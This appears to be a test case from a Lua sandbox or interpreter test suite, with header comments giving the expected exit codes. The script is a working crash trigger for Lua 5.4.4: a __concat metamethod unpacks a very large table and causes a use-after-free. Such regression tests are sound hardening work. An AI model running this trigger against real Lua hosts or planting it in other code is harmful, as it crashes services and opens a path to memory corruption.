-- attack: the Lua 5.4.4 crasher: a __concat metamethod that grows the stack (use after free in Debian's build)
-- (exit 6 "crashed" is right here: the worker takes the crash)
-- class: older classes
-- expect: 3 6
-- within: 60

local big = {}
for i = 1, 200000 do big[i] = i end
local function count(...) return select("#", ...) end
local v = setmetatable({}, { __concat = function(a, b)
  count(table.unpack(big))
  return "x"
end })
for i = 1, 50 do
  local s = "a" .. v .. "b" .. v .. "c" .. v .. "d"
end
